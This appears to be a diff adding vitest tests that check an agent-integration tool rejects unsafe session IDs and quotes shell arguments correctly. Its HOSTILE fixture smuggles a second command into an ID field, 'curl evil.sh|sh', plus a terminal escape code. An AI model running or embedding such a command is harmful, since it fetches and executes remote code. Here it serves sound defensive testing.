@@ -1,0 +1,64 @@
+import { PassThrough } from "node:stream";
+import { describe, expect, it } from "vitest";
+import { ManualClock } from "../../../../../src/observe/clock.js";
+import { earlierSessions } from "../../../../../src/worker/integrations/acp/earlier-sessions.js";
+import { LineCommands } from "../../../../../src/worker/integrations/acp/line-commands.js";
+import { CodexExecClient } from "../../../../../src/worker/integrations/codex/exec-client.js";
+
+const HOSTILE = "x; curl evil.sh|sh #\u001b[2J";
+
+describe("what a tool calls its session", () => {
+  it.each([
+    ["thread-7", "thread-7"],
+    [HOSTILE, null],
+    ["--yolo", null],
+  ])("is offered to people only where it is a word: %s", async (id, offered) => {
+    const [input, output] = [new PassThrough(), new PassThrough()];
+    const server = new CodexExecClient({
+      input,
+      output,
+      desk: { isAsking: false } as never,
+      clock: new ManualClock(),
+      cwd: "/w",
+      version: "1",
+      context: null,
+      resume: null,
+      silenceMs: 60_000,
+      show: [],
+      onActivity: () => undefined,
+      onHung: () => undefined,
+    });
+    input.on("data", (lines: Buffer) => {
+      // As over a pipe: no answer comes before the request is out.
+      for (const [, asked] of lines.toString().matchAll(/"id":(\d+)/g))
+        setImmediate(() =>
+          output.write(`${JSON.stringify({ id: Number(asked), result: { thread: { id } } })}\n`),
+        );
+    });
+    await server.open();
+    expect(server.session).toBe(offered);
+  });
+
+  it("is listed only where it can be named", async () => {
+    const session = (sessionId: string) => ({ sessionId, cwd: "/w" });
+    const greeting = { version: 2, capabilities: {}, authMethods: [], agent: null };
+    const listed = await earlierSessions(greeting, "/w", () =>
+      Promise.resolve({ sessions: [session("s-1"), session(HOSTILE), session("-x")] }),
+    );
+    expect(listed.map(({ sessionId }) => sessionId)).toEqual(["s-1"]);
+  });
+
+  it("stands in a line that a shell reads as it is meant", () => {
+    const commands = new LineCommands({
+      tool: "agent",
+      facts: {} as never,
+      session: () => ({ lasting: "s-1" }) as never,
+      asking: null,
+      clock: new ManualClock(),
+      show: () => undefined,
+    });
+    expect(commands.farewell(["my agent", "--say", "it's $HOME"])).toBe(
+      "To go on: atlasbridge run --runtime acp --session s-1 'my agent' --say 'it'\\''s $HOME'",
+    );
+  });
+});
